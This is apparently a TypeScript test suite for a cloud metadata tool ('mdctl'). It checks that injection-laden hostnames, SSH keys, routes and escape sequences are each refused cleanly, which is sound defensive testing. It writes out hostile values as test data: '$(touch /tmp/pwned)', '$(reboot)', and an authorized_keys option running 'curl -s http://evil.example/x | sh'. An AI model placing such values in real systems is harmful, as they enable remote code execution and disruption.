// Fault matrix, hostile values served by the emulator: the applier that cannot take a value refuses it alone, by name, on one line (see matrix.ts).
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { KEYS } from '../appliers/keys.js';
import { runCli } from '../helpers/cli.js';
import { ENV, boot, cleanResult, emulatorWith, makeBox, managedKeys, removeWork, seedFixture, tree, type Box } from './matrix.js';

after(removeWork);

/** The i-th of many distinct, valid ed25519 keys (the 32 key bytes are a hash of i). */
function ed25519(i: number): string {
  const field = (data: Buffer): Buffer => Buffer.concat([Buffer.from([0, 0, 0, data.length]), data]);
  const blob = Buffer.concat([field(Buffer.from('ssh-ed25519')), field(createHash('sha256').update(String(i)).digest())]);
  return `ssh-ed25519 ${blob.toString('base64')} k${i}`;
}

/** Boot the seed instance with the fixture edited; returns the result and the box. */
async function bootEdited(edit: (text: string) => string): Promise<{ status: number | null; stdout: string; stderr: string; box: Box; before: Record<string, string> }> {
  const emulator = await emulatorWith([], await seedFixture(edit));
  try {
    const box = await makeBox();
    const before = tree(box.root, true);
    const result = await boot(box, emulator.url, 10);
    return { ...result, box, before };
  } finally {
    await emulator.stop();
  }
}

/** Every stderr line is one "mdctl: " line; the ones matching `pattern` are returned. */
function stderrLines(stderr: string, pattern: RegExp): string[] {
  const lines = stderr.split('\n').filter((line) => line !== '');
  for (const line of lines) assert.match(line, /^mdctl: /, `a stray stderr line: ${JSON.stringify(line)}`);
  return lines.filter((line) => pattern.test(line));
}

const HOSTILE_HOSTNAMES: [string, string][] = [
  ['a semicolon', 'web1;reboot'],
  ['a command substitution', '$(touch /tmp/pwned)'],
  ['a space', 'web 1'],
  ['a newline', 'web1\n127.0.0.1 evil'],
  ['300 characters', 'a'.repeat(300)],
  ['unicode', 'höst-ホスト'],
  ['a right-to-left override', 'web\u202e1'],
];

for (const [title, hostname] of HOSTILE_HOSTNAMES) {
  test(`a hostname with ${title}: exit 3, refused by name on one line; hostname and hosts untouched, the keys applied`, async () => {
    const run = await bootEdited((text) => text.replace(/^ {4}hostname: dvr3-demo12$/m, `    hostname: ${JSON.stringify(hostname)}`));
    assert.equal(run.status, 3, run.stderr);
    assert.equal(stderrLines(run.stderr, /^mdctl: hostname: hostname ".*" refused: /).length, 1, run.stderr);
    const after = tree(run.box.root, true);
    for (const path of ['./etc/hostname', './etc/hosts']) assert.equal(after[path], run.before[path], path);
    const clean = await cleanResult();
    assert.equal(tree(run.box.root)['./home/alice/.ssh/authorized_keys'], clean.root['./home/alice/.ssh/authorized_keys']);
  });
}

/** The seed fixture with these key entries in place of its own. */
function withKeys(entries: { name: string; data: string }[]): (text: string) => string {
  const yaml = entries.map((entry) => `      - name: ${JSON.stringify(entry.name)}\n        type: ssh\n        data: ${JSON.stringify(entry.data)}\n`).join('');
  return (text) => text.replace(/^ {4}keys:\n(?: {6}.*\n)+/m, `    keys:\n${yaml}`);
}

test('a key entry smuggling a second line with command="...": the good lines applied, the smuggled one refused alone, exit 3', async () => {
  const smuggled = `command="curl -s http://evil.example/x | sh",no-pty ${KEYS.rsa}`;
  const run = await bootEdited(withKeys([{ name: 'laptop', data: `${KEYS.ed25519}\n${smuggled}\n${KEYS.ecdsa256}` }]));
  assert.equal(run.status, 3, run.stderr);
  assert.equal(stderrLines(run.stderr, /^mdctl: ssh-keys: SSH key ".*" refused: options before the key type are not accepted \(key entry "laptop"\); skipped$/).length, 1, run.stderr);
  assert.deepEqual(managedKeys(run.box), [KEYS.ed25519, KEYS.ecdsa256]);
  const file = readFileSync(join(run.box.root, 'home/alice/.ssh/authorized_keys'), 'utf8');
  assert.doesNotMatch(file, /command=|evil/);
  assert.ok(file.endsWith('# END mdctl managed keys\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8g alice@her-laptop\n'));
});

test('a key entry smuggling a valid second key by a newline: each line is a key of its own, both applied', async () => {
  const run = await bootEdited(withKeys([{ name: 'pair', data: `${KEYS.ed25519}\n${KEYS.ecdsa384}` }]));
  assert.equal(run.status, 0, run.stderr);
  assert.deepEqual(managedKeys(run.box), [KEYS.ed25519, KEYS.ecdsa384]);
});

test('a blob whose inner type differs from the declared one, and a CR inside a key line: refused by name, exit 3, the rest applied', async () => {
  const ed25519Blob = KEYS.ed25519.split(' ')[1]!;
  const run = await bootEdited(withKeys([
    { name: 'liar', data: `ssh-rsa ${ed25519Blob} liar@x` },
    { name: 'cr', data: `${KEYS.ecdsa521}\rssh-ed25519 smuggled` },
    { name: 'good', data: KEYS.rsa },
  ]));
  assert.equal(run.status, 3, run.stderr);
  assert.equal(stderrLines(run.stderr, /^mdctl: ssh-keys: SSH key ".*" refused: blob holds a "ssh-ed25519" key, not "ssh-rsa" \(key entry "liar"\)/).length, 1, run.stderr);
  assert.equal(stderrLines(run.stderr, /^mdctl: ssh-keys: SSH key ".*" refused: carriage return or NUL in the line \(key entry "cr"\)/).length, 1, run.stderr);
  assert.deepEqual(managedKeys(run.box), [KEYS.rsa]);
});

test('10,000 keys: meta_data.json is over the 1 MiB body cap, so the run is refused with exit 5 and nothing is touched', async () => {
  const many = Array.from({ length: 10_000 }, (_, i) => ed25519(i)).join('\n');
  const emulator = await emulatorWith([], await seedFixture(withKeys([{ name: 'many', data: many }])));
  try {
    const box = await makeBox();
    const before = tree(box.root, true);
    const result = await boot(box, emulator.url, 10);
    assert.equal(result.status, 5, result.stderr);
    assert.equal(stderrLines(result.stderr, /meta_data\.json: body larger than 1048576 bytes refused/).length, 1, result.stderr);
    assert.deepEqual(tree(box.root, true), before);
  } finally {
    await emulator.stop();
  }
});

test('2,000 distinct keys in one entry (under the cap), one of them twice: each applied once, in order, exit 0', async () => {
  const lines = Array.from({ length: 2_000 }, (_, i) => ed25519(i));
  const run = await bootEdited(withKeys([{ name: 'many', data: [...lines, lines[7]!].join('\n') }]));
  assert.equal(run.status, 0, run.stderr);
  assert.deepEqual(managedKeys(run.box), lines);
});

test('routes with a bad CIDR, an off-link gateway and 169.254.169.254 itself: exit 3, each named; the metadata route is skipped', async () => {
  const run = await bootEdited((text) =>
    text.replace(
      '            - {network: 172.31.5.0, netmask: 255.255.255.0, gateway: 192.168.0.253}\n',
      [
        '            - {network: 172.31.5.0, netmask: 255.255.255.0, gateway: 192.168.0.253}',
        '            - {network: 10.0.0.0, netmask: 255.0.255.0, gateway: 192.168.0.1}',
        '            - {network: 10.30.0.0, netmask: 255.255.0.0, gateway: 10.9.9.9}',
        '            - {network: 169.254.169.254, netmask: 255.255.255.255, gateway: 192.168.0.1}',
        '            - {network: "$(reboot)", netmask: 255.255.255.0, gateway: 192.168.0.1}',
        '',
      ].join('\n'),
    ),
  );
  assert.equal(run.status, 3, run.stderr);
  assert.equal(stderrLines(run.stderr, /^mdctl: routes: route "10\.0\.0\.0\/255\.0\.255\.0 via 192\.168\.0\.1" refused: destination is not an address\/prefix$/).length, 1, run.stderr);
  assert.equal(stderrLines(run.stderr, /^mdctl: routes: route "10\.30\.0\.0\/16 via 10\.9\.9\.9" refused: gateway is not on the link/).length, 1, run.stderr);
  assert.equal(stderrLines(run.stderr, /^mdctl: routes: route "\$\(reboot\)\/24 via 192\.168\.0\.1" refused/).length, 1, run.stderr);
  assert.equal(stderrLines(run.stderr, /^mdctl: warning: routes: route "169\.254\.169\.254\/32 via 192\.168\.0\.1" skipped: it would carry the traffic to the metadata service$/).length, 1, run.stderr);
  const clean = await cleanResult();
  assert.deepEqual(tree(run.box.root), clean.root, 'hostname and keys applied as in a clean boot');
});

test('user_data of 64 KiB + 1: the user-data appliers refuse it by name (exit 3); the cache keeps the exact bytes; the rest applied', async () => {
  const head = '#!/bin/sh\necho too big\n';
  const userData = `${head}${'#'.repeat(64 * 1024 + 1 - head.length - 1)}\n`;
  assert.equal(Buffer.byteLength(userData), 64 * 1024 + 1);
  const run = await bootEdited((text) =>
    text.replace(/ {4}user_data: \|\n(?: {6}.*\n)+/, `    user_data_base64: ${Buffer.from(userData).toString('base64')}\n`),
  );
  assert.equal(run.status, 3, run.stderr);
  const refusedBy = stderrLines(run.stderr, /: user-data refused: part 0 \(script\): user-data is 65537 bytes, over Nova's limit of 65535; refused$/);
  assert.deepEqual(refusedBy.map((line) => line.split(':')[1]), [' write-files', ' scripts']);
  const clean = await cleanResult();
  assert.deepEqual(tree(run.box.root), clean.root);
  const got = await runCli(['get', 'user-data', '--cache-dir', run.box.cache], { env: ENV });
  assert.equal(got.status, 0, got.stderr);
  assert.equal(got.stdout, userData);
});

test('a hostile value in an error message never breaks the one-line format (EC2 key name with a terminal escape)', async () => {
  const name = 'evil\u001b]0;pwned\u0007\r';
  const fixture = await seedFixture((text) => withKeys([{ name, data: KEYS.ed25519 }])(text).replace('max_version: 2020-10-14\n', 'max_version: 2020-10-14\nec2_only: true\n'));
  const emulator = await emulatorWith([{ path: '/latest/meta-data/public-keys/0/', status: 200, body: '' }], fixture);
  try {
    const box = await makeBox();
    const before = tree(box.root, true);
    const result = await boot(box, emulator.url, 10);
    assert.equal(result.status, 5, result.stderr);
    const lines = result.stderr.split('\n').filter((line) => line !== '');
    assert.equal(lines.length, 1, JSON.stringify(result.stderr));
    assert.ok([...lines[0]!].every((ch) => ch >= ' ' && ch !== '\u007f'), JSON.stringify(lines[0]));
    assert.match(lines[0]!, /^mdctl: meta-data: "public-keys\.0=evil\\u001b\]0;pwned\\u0007\.openssh-key": missing$/);
    assert.deepEqual(tree(box.root, true), before);
  } finally {
    await emulator.stop();
  }
});
